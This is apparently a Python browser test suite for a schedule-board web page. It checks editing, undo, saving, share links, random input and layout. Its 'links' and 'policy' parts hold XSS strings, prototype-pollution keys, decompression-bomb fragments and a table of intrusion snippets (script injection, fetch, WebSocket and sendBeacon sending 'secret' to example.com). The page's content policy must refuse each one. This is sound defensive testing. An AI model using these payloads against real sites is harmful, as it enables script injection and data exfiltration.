#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Holds the board of a page against what it promises, in a browser and under hands of one kind.

    edits     blocks are moved, taken out and put back, undone and done again; what is saved is what is shown, and its
              numbers are those of `simulate`; the link that is copied opens the same board
    links     fragments of an address that are hostile or broken are text, end in a sentence and leave a board
    monkey    drags, keys and presses at random: after each what is shown is what would be saved; undoing all of it
              leads back
    policy    what a script that got into the page would try is refused, and nothing leaves
    looks     a narrow page is no wider than the screen, what is pressed is large enough; pictures, kept to be looked at

No line in the console, and no request. Ends with the skip code where the browser, or the page's module, is missing."""

import argparse
import base64
import json
import pathlib
import random
import re
import subprocess
import sys
import tempfile
import time
import zlib

from browser import PATIENCE, Browser, Fault, program
from hands import hands

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
GALLERY = ROOT / "schedules" / "gallery"
SLY = '</script><img src=x onerror=alert(1)><b>bold</b> & "quoted" \u202e%1 ${alert(1)}'


class Check:
    def __init__(self, browser, by, cli, folder, keep):
        self.browser, self.by, self.cli, self.folder, self.keep = browser, by, cli, folder, keep
        self.hands = hands(browser, by)
        self.seed, self.steps, self.files = 1, 25, ["dualpipe"]
        self.server = None  # where the folder's pages are served, as http://…/; none: they come from the disk
        self.faults, self.held = [], 0

    def expect(self, good, what):
        self.held += 1
        if not good:
            self.faults.append(f"{self.browser.name}, {self.by}: {what}")

    def equal(self, found, wanted, what):
        self.expect(found == wanted, f"{what}: {found!r:.600} instead of {wanted!r:.600}")

    def soon(self, find, wanted, what):
        """The same of what is to come of some input: a browser may go on before its page has heard of it."""
        end = time.monotonic() + PATIENCE / 4
        while (found := find()) != wanted and time.monotonic() < end:
            self.browser.wait_for("new Promise((go) => setTimeout(() => go(true), 20))")
        self.equal(found, wanted, what)

    def quiet(self, what):
        own = [self.server + page.name for page in self.folder.glob("*.html")] if self.server else []
        said = self.browser.console() + [url for url in self.browser.requests() if url not in own]
        self.expect(not said, f"{what}: {said}")

    def ask(self, *words):
        return subprocess.run([self.cli, *map(str, words)], capture_output=True, text=True, check=False)

    def page_of(self, file, *words):
        page = self.folder / f"{file.name}.html"
        made = self.ask("convert", file, page, *words)
        if made.returncode:
            raise Fault(made.stderr)
        return page

    def open(self, page, fragment=""):
        self.browser.open("about:blank")  # a fragment alone would not load the page anew
        self.browser.open((self.server + page.name if self.server else page.as_uri()) + fragment)

    def shot(self, name):
        if self.keep:
            drawn = "new Promise((go) => requestAnimationFrame(() => requestAnimationFrame(() => go(true))))"
            self.browser.wait_for(drawn)
            self.browser.screenshot(self.keep / re.sub(r"[^\w .:-]", "-", f"{self.browser.name}-{self.by}-{name}.png"))


def moved(rows, rank, source, to):
    row = list(rows[rank])
    row.insert(to, row.pop(source))
    return [*rows[:rank], row, *rows[rank + 1 :]]


def fragment_of(text):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packer.compress(text.encode("utf-8", "surrogatepass")) + packer.flush()
    return "#s=" + base64.urlsafe_b64encode(data).decode().rstrip("=")


def is_board(check):
    return check.browser.evaluate("lanewright.board.hasModule()")


def begin(check):
    check.hands.press("#edit")
    check.browser.wait_for("lanewright.board.isOpen()")


def check_edits(check):
    hand = check.hands
    file = GALLERY / "zb-h1.lwsched"
    check.open(check.page_of(file))
    begin(check)
    before = hand.rows()
    check.equal(
        before,
        [row.split() if isinstance(row, str) else row for row in json.loads(file.read_text())["order"]],
        "the lanes",
    )
    check.shot("begun")

    wanted = moved(before, 1, 6, 4)
    op = before[1][6]
    hand.move(op, 1, 4)
    check.soon(hand.rows, wanted, "a block went back")
    check.expect(hand.board()["undo"] and hand.board()["modified"], "there is nothing to undo")
    check.equal(hand.status(), hand.board()["undo"], "the page says what was done")
    check.shot("moved")
    hand.undo()
    check.soon(hand.rows, before, "undone")
    hand.redo()
    check.soon(hand.rows, wanted, "done again")

    op = before[3][20]
    hand.take_out(3, 20)
    check.soon(hand.tray, [op], "the tray")
    check.shot("tray")
    hand.insert(op, 3, 22)
    check.soon(hand.tray, [], "the tray after all was put back")
    check.soon(hand.rows, moved(wanted, 3, 20, 22), "taken out and put back")
    check_saved(check)
    check_link(check)
    check.quiet("edits")


def check_saved(check):
    """What is saved is what is shown, with the numbers that the command line computes."""
    hand, browser = check.hands, check.browser
    if check.by == "keys":
        browser.press("Control+s")
    else:
        hand.press("#save")
    saved = browser.downloaded()
    check.equal(saved.name, hand.board()["file"], "its name")
    check.equal(json.loads(saved.read_text())["order"], hand.rows(), "the saved order")
    numbers = json.loads(check.ask("simulate", "--json", saved).stdout)
    shown = dict(browser.evaluate("lanewright.shown.plan.data.numbers"))
    check.equal(shown["makespan"], str(numbers["makespan"]), "the makespan")
    tiles = browser.evaluate("[...document.querySelectorAll('#tiles dd')].map((each) => each.textContent)")
    check.expect(shown["makespan"] in tiles, f"the tiles say {tiles}")
    saved.unlink()


def check_link(check):
    """The link that is copied opens the same board anew."""
    hand, browser = check.hands, check.browser
    rows, title = hand.rows(), browser.evaluate("document.title")
    browser.evaluate("void (navigator.clipboard.writeText = async (text) => void (globalThis.copied = text))")
    hand.press("#copyLink")
    link = browser.wait_for("globalThis.copied")
    check.expect("file" in hand.status() or "computer" in hand.status(), f"a link to a file on disk: {hand.status()}")
    browser.open("about:blank")
    browser.open(link)
    browser.wait_for("lanewright.board.isOpen()")
    check.equal(hand.rows(), rows, "the link's lanes")
    check.equal(browser.evaluate("document.title"), title, "the link's title")


def hostile(text):
    """Fragments, and whether a board may come of them."""
    plain = json.loads(text)
    yield "a sly title", fragment_of(json.dumps(plain | {"title": SLY})), True
    yield "a long title", fragment_of(json.dumps(plain | {"title": "long " * 20_000})), True
    yield "keys of objects", fragment_of(text[:-2] + ', "__proto__": {"polluted": 1}, "constructor": "x"}'), True
    yield "sly ops", fragment_of(json.dumps(plain | {"order": [[SLY], [], [], []]})), False
    yield "a sly key", fragment_of(json.dumps(plain | {SLY: SLY})), True
    yield "a lone surrogate", fragment_of(json.dumps(plain).replace("ZB-H1", "\ud800")), False
    yield "a cut one", fragment_of(text)[:-40], False
    yield "no packed text", "#s=AAAA", False
    yield "no letters", "#s=%3Cscript%3Ealert(1)%3C/script%3E", False
    yield "nothing", "#s=", False
    yield "a page", "#s=" + "A" * 300_000, False
    yield "a bomb", fragment_of(" " * 60_000_000), False
    yield "deep", fragment_of("[" * 100_000), False
    yield "a list", fragment_of("[]"), False
    yield "no number", fragment_of(json.dumps(plain | {"microbatches": 1e308})), False
    yield "too many", fragment_of(json.dumps(plain | {"microbatches": 2_000_000_000, "order": [[], [], [], []]})), False
    yield "a run", fragment_of('{"format": "lanewright-run", "version": 1}'), False


def check_links(check):
    hand, browser = check.hands, check.browser
    text = (GALLERY / "zb-h1.lwsched").read_text()
    page = check.page_of(GALLERY / "1f1b.lwsched")
    for name, fragment, may_open in hostile(text):
        check.open(page, fragment)
        browser.wait_for("lanewright.board.isOpen() || document.getElementById('status').textContent")
        is_open = browser.evaluate("lanewright.board.isOpen()")
        check.equal(is_open, may_open, f"{name}: a board ({hand.status()})")
        check.expect(is_open or hand.status(), f"{name}: nothing is said")
        markup = browser.evaluate(
            "document.images.length + document.querySelectorAll('b b, script script, iframe').length"
        )
        check.equal([markup, browser.evaluate("({}).polluted ?? 0")], [0, 0], f"{name}: it became more than text")
        if not is_open:
            begin(check)
        check.expect(len(hand.rows()) > 0, f"{name}: no board is left")
        check.quiet(name)


# What an intruder would do; each is to fail.
INTRUSIONS = {
    "a script": "make('script', { textContent: 'intruded = 1' })",
    "a script from elsewhere": "make('script', { src: there })",
    "code from text": "new Function('intruded = 1')()",
    "a module": "import(there)",
    "a handler": "make('p').append(document.createRange().createContextualFragment('<b onclick=1></b>'))",
    "a request": "fetch(there)",
    "a socket": "ended(new WebSocket('ws://example.com/secret'))",
    "a stream": "ended(new EventSource(there))",
    "a beacon": "navigator.sendBeacon(there, 'secret')",
    "a picture": "ended(make('img', { src: there }))",
    "a frame": "make('iframe', { src: there })",
    "a style": "make('style', { textContent: '* { color: red }' })",
    "a worker": "ended(new Worker(URL.createObjectURL(new Blob(['1']))))",
    "a form": "make('form', { action: there }).submit()",
    "a base": "make('base', { href: there })",
}
INTRUDE = """(async (there) => {
    const make = (tag, given) => {
        const made = Object.assign(document.createElement(tag), given);
        document.body.append(made);
        return made;
    };
    const ended = (thing) => new Promise((go) => (thing.onerror = thing.onclose = thing.onload = go));
    // What a driver asks at once may do more than a page.
    await new Promise((go) => setTimeout(go, 0));
    try { await (CODE); } catch (fault) { return String(fault); }
    return "";
})("http://example.com/secret")"""


def check_policy(check):
    browser = check.browser
    check.open(check.page_of(GALLERY / "zb-h1.lwsched"))
    begin(check)
    check.quiet("a board")
    browser.evaluate("void (globalThis.intruded = 0)")
    for name, code in INTRUSIONS.items():
        fault = browser.evaluate(INTRUDE.replace("CODE", code))
        lines = []

        def is_refused():
            lines.extend(browser.console())
            return bool(fault) or any("olicy" in line for line in lines)

        check.soon(is_refused, True, f"{name} is refused")
    check.equal(browser.evaluate("intruded"), 0, "what an intruder set")
    check.equal(browser.reached(), [], "what left")
    browser.requests()
    check.expect(browser.evaluate("lanewright.board.isOpen()"), "the board is gone")


KEYS = [
    "ArrowLeft",
    "ArrowRight",
    "ArrowUp",
    "ArrowDown",
    "Control+ArrowLeft",
    "Control+ArrowRight",
    "Delete",
    "Enter",
    "f",
]
KEYS += [
    "Escape",
    "Space",
    "+",
    "-",
    "0",
    "[",
    "]",
    ",",
    ".",
    "Control+k",
    "Control+z",
    "Control+y",
    "Home",
    "Tab",
    "a",
    "d",
]
SHOWN = """(() => {
    const saved = JSON.parse(lanewright.board.savedText());
    const rows = (saved.order ?? []).map((row) => row.map(String));
    const lanes = lanewright.shown.plan.lanes.map((lane) => lane.blocks.map((each) => each.text));
    return JSON.stringify(rows) === JSON.stringify(lanes) ? "" : JSON.stringify([lanes, rows]);
})()"""
BUTTONS = """["acts", "tools", "about", "tray", "findings"]
    .flatMap((id) => [...document.getElementById(id).querySelectorAll("button")])
    .filter((each) => each.offsetWidth && !each.disabled && each.id !== "open" && each.id !== "save").length"""


def press_any(check, chance):
    """Presses one of the buttons that change or show something."""
    count = check.browser.evaluate(BUTTONS)
    nth = chance.randrange(count)
    mark = BUTTONS.replace(".length", "[nth]")
    check.browser.evaluate("document.querySelectorAll('[data-found]').forEach((each) => delete each.dataset.found)")
    check.browser.evaluate(f"void ({mark}.dataset.found = '')", nth=nth)
    check.hands.press("[data-found]")


def drag_any(check, chance):
    """Drags from somewhere in the lanes to somewhere; Escape ends some of it."""
    browser, by = check.browser, check.by
    width, height = browser.evaluate("[innerWidth, innerHeight]")
    browser.middle("#lanes")
    left, top, right, bottom = browser.evaluate(
        "(({ left, top, right, bottom }) => [left, Math.max(0, top), right, Math.min(innerHeight, bottom)])"
        "(document.getElementById('lanes').getBoundingClientRect())"
    )
    x, y = chance.uniform(left + 60, right - 5), chance.uniform(top + 30, max(top + 31, bottom - 5))
    browser.down(x, min(y, height - 2), by)
    if by == "touch" and chance.random() < 0.8:
        browser.point(by, {"type": "pause", "duration": 350})
    for _ in range(chance.randrange(1, 4)):
        x, y = x + chance.gauss(0, 90), y + chance.gauss(0, 30)
        browser.move(min(max(x, 1), width - 2), min(max(y, 1), height - 2), by, chance.choice((0, 30)))
    if chance.random() < 0.15:
        browser.press("Escape")
    browser.up(by)


def check_monkey(check):
    hand, browser = check.hands, check.browser
    chance = random.Random(check.seed)
    for file in check.files:
        check.open(check.page_of(GALLERY / f"{file}.lwsched"))
        begin(check)
        before = hand.rows()
        for step in range(check.steps):
            kind = chance.choice(
                ("drag", "drag", "key", "press") if check.by != "keys" else ("key", "key", "key", "press")
            )
            if kind == "drag":
                drag_any(check, chance)
            elif kind == "key":
                browser.press(*[chance.choice(KEYS)] * chance.randrange(1, 4))
            else:
                press_any(check, chance)
            differs, said = browser.evaluate(SHOWN), browser.console() + browser.requests()
            if differs or said:
                check.expect(False, f"{file}, seed {check.seed}, step {step} ({kind}): {said or differs:.900}")
                return
            check.held += 1
        while hand.board()["redo"] is not None:
            browser.press("Control+y")
        last = hand.rows()
        while hand.board()["undo"] is not None:
            browser.press("Control+z")
        check.soon(hand.rows, before, f"{file}, seed {check.seed}: all undone")
        while hand.board()["redo"] is not None:
            browser.press("Control+y")
        check.soon(hand.rows, last, f"{file}, seed {check.seed}: all done again")


# What is pressed and smaller than a finger, and what sticks out of the page.
SMALL = """[...document.querySelectorAll("button, select, input:not([type=range])")].filter((each) => {
    const { width, height } = (each.closest("label") ?? each).getBoundingClientRect();
    return width > 0 && Math.min(width, height) < 24;
}).map((each) => each.outerHTML.slice(0, 80))"""
WIDE = """[...document.querySelectorAll(document.documentElement.scrollWidth > innerWidth ? "body *" : "#none")]
    .filter((each) => each.getBoundingClientRect().right > innerWidth + 1 && !each.closest(".scrolls"))
    .map((each) => each.outerHTML.slice(0, 80))"""


def check_looks(check):
    hand, browser = check.hands, check.browser
    for file in ("zb-h1", "dualpipe"):
        check.open(check.page_of(GALLERY / f"{file}.lwsched"))
        begin(check)
        hand.choose(1, 3)
        for name, wishes in (("plain", {}), ("dark", {"dark": True}), ("forced", {"forced_colours": True})):
            browser.prefer(**wishes)
            check.shot(f"{file}-{name}")
        browser.prefer()
        check.equal(browser.evaluate(WIDE), [], f"{file}: wider than the screen")
        check.equal(browser.evaluate(SMALL) if check.by == "touch" else [], [], f"{file}: too small for a finger")
    check.quiet("looks")


def check_packed(check):
    """A page so large that its texts are packed, in German, and so is its board."""
    file = check.folder / "large.lwsched"
    check.ask("generate", "zbv", "-p", "16", "-m", "64", "-o", file)
    check.open(check.page_of(file, "--language", "de"))
    for held in ("data", "dictionary"):
        first = check.browser.evaluate(f'document.getElementById("{held}").textContent[0]')
        check.expect(first != "{", f"{held} is not packed")
    begin(check)
    words = json.loads((ROOT / "resources" / "words" / "de.json").read_text())["check"]
    said = check.browser.evaluate('lanewright.board.ask({ ask: "check" }).sentence')
    check.equal(said, words["Nothing is wrong: all ops are placed, and all of them run."], "what a board says")
    check.shot("packed")
    check.quiet("a packed page")


PARTS = {
    "edits": check_edits,
    "links": check_links,
    "monkey": check_monkey,
    "policy": check_policy,
    "looks": check_looks,
    "packed": check_packed,
}


SAMPLE = {"mouse": ["edits", "packed", "links", "policy"], "touch": ["edits", "monkey", "looks"], "keys": ["edits"]}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("browser", choices=("chromium", "firefox"))
    parser.add_argument("parts", nargs="*", help=", ".join(PARTS) + "; none: a sample of each hand's")
    parser.add_argument("--by", default="mouse,touch,keys")
    parser.add_argument("--seed", type=int, default=1, help="of the monkey")
    parser.add_argument("--steps", type=int, default=25, help="of the monkey")
    parser.add_argument("--files", default="dualpipe", help="of the gallery, for the monkey")
    parser.add_argument("--cli", required=True)
    parser.add_argument("--keep", type=pathlib.Path, help="a folder for pictures")
    parser.add_argument("--skip-code", type=int, default=77)
    options = parser.parse_args()
    if not program(options.browser):
        print(f"skipped: {options.browser}, or its driver, is not there")
        return options.skip_code
    if options.keep:
        options.keep.mkdir(exist_ok=True)
    faults, held = [], 0
    for by in options.by.split(","):
        with tempfile.TemporaryDirectory() as folder, Browser(options.browser) as browser:
            check = Check(browser, by, options.cli, pathlib.Path(folder), options.keep)
            check.seed, check.steps, check.files = options.seed, options.steps, options.files.split(",")
            if by == "touch":
                browser.phone()
            check.open(check.page_of(GALLERY / "zb-h1.lwsched"))
            if not is_board(check):
                print("skipped: this build has no board for browsers")
                return options.skip_code
            for part in options.parts or SAMPLE[by]:
                PARTS[part](check)
            faults, held = faults + check.faults, held + check.held
    print("\n".join(faults) or f"{held} expectations hold")
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main())
